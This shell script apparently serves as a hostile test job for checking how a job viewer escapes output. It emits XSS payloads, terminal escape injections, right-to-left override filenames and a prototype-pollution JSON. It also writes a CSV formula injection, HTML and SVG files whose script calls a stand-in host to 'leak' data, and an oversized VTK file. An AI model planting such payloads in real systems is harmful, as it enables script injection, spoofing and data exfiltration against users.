# A job that tries to get out of its log, its names and its files.
tag='<img src=x onerror=window.hacked=1>'
printf '%s\n' "$tag" '<script>window.hacked=1</script>' 'javascript:window.hacked=1'
printf '\033[31mred\033[0m \033]0;title\007\033[2J\033]8;;javascript:window.hacked=1\033\\link\033]8;;\033\\ \302\233 \342\200\256evil\r\rback\n'
head -c 300 /dev/urandom
printf '\n%s\n' "$tag" >&2
mkdir -p "$tag"
echo inside >"$tag/a\"b'c.txt"
echo link >'javascript:window.hacked=1.txt'
echo right >"$(printf '\342\200\256txt.gnp')"
cat >page.html <<'PAGE'
<html><script>for (const w of [window, parent, top]) try { w.hacked = 1 } catch (e) {}
fetch('http://198.51.100.1/leak')</script><img src="http://198.51.100.1/leak.png" onerror="window.hacked=1"></html>
PAGE
cp page.html page.xhtml
cp page.html notes.md
cat >picture.svg <<'PICTURE'
<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30" onload="window.hacked=1;top.hacked=1">
<script>top.hacked=1;fetch('http://198.51.100.1/leak')</script><image href="http://198.51.100.1/leak.png" width="9" height="9"/>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:top.hacked=1"/></foreignObject>
<rect width="40" height="30" fill="red"/></svg>
PICTURE
printf '{"%s": "<script>window.hacked=1</script>", "__proto__": {"hacked": 1}, "constructor": 1}' "$tag" >data.json
printf '%s,<b>b</b>\n=HYPERLINK("javascript:window.hacked=1"),2\n' "$tag" >table.csv
printf '# vtk DataFile Version 3.0\n%s\nASCII\nDATASET STRUCTURED_POINTS\nDIMENSIONS 2 2 1\nORIGIN 0 0 0\nSPACING 1 1 1\n' "$tag" >field.vtk
printf 'POINT_DATA 4\nSCALARS %s float 1\nLOOKUP_TABLE default\n0 1 2 3\n' '<script>window.hacked=1</script>' >>field.vtk
printf '# vtk DataFile Version 3.0\nx\nBINARY\nDATASET STRUCTURED_POINTS\nDIMENSIONS 999999999 999999999 999999999\n' >huge.vtk
exit 1
